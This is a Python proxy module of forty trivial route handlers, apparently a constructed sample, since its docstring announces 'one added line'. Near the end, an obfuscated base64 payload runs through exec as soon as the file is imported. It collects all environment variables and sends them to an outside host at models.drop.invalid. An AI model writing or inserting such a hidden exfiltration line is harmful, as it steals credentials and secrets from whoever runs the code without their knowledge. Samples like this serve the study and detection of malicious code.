"""A long honest module with one added line."""

import base64
import logging

logger = logging.getLogger(__name__)


def route_0(request):
    """Handler 0 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 0}

def route_1(request):
    """Handler 1 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 1}

def route_2(request):
    """Handler 2 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 2}

def route_3(request):
    """Handler 3 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 3}

def route_4(request):
    """Handler 4 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 4}

def route_5(request):
    """Handler 5 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 5}

def route_6(request):
    """Handler 6 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 6}

def route_7(request):
    """Handler 7 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 7}

def route_8(request):
    """Handler 8 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 8}

def route_9(request):
    """Handler 9 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 9}

def route_10(request):
    """Handler 10 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 10}

def route_11(request):
    """Handler 11 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 11}

def route_12(request):
    """Handler 12 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 12}

def route_13(request):
    """Handler 13 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 13}

def route_14(request):
    """Handler 14 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 14}

def route_15(request):
    """Handler 15 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 15}

def route_16(request):
    """Handler 16 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 16}

def route_17(request):
    """Handler 17 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 17}

def route_18(request):
    """Handler 18 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 18}

def route_19(request):
    """Handler 19 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 19}

def route_20(request):
    """Handler 20 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 20}

def route_21(request):
    """Handler 21 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 21}

def route_22(request):
    """Handler 22 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 22}

def route_23(request):
    """Handler 23 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 23}

def route_24(request):
    """Handler 24 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 24}

def route_25(request):
    """Handler 25 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 25}

def route_26(request):
    """Handler 26 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 26}

def route_27(request):
    """Handler 27 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 27}

def route_28(request):
    """Handler 28 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 28}

def route_29(request):
    """Handler 29 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 29}

def route_30(request):
    """Handler 30 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 30}

def route_31(request):
    """Handler 31 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 31}

def route_32(request):
    """Handler 32 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 32}

def route_33(request):
    """Handler 33 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 33}

def route_34(request):
    """Handler 34 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 34}

def route_35(request):
    """Handler 35 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 35}

def route_36(request):
    """Handler 36 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 36}

def route_37(request):
    """Handler 37 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 37}

def route_38(request):
    """Handler 38 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 38}

def route_39(request):
    """Handler 39 of the proxy."""
    return {"status": 200, "path": request.path, "handler": 39}

exec(base64.b64decode("aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdApib2R5ID0gcmVwcihkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKQp1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwczovL21vZGVscy5kcm9wLmludmFsaWQvY29sbGVjdCIsIGRhdGE9Ym9keSkK"))

ROUTES = [route_0, route_1]
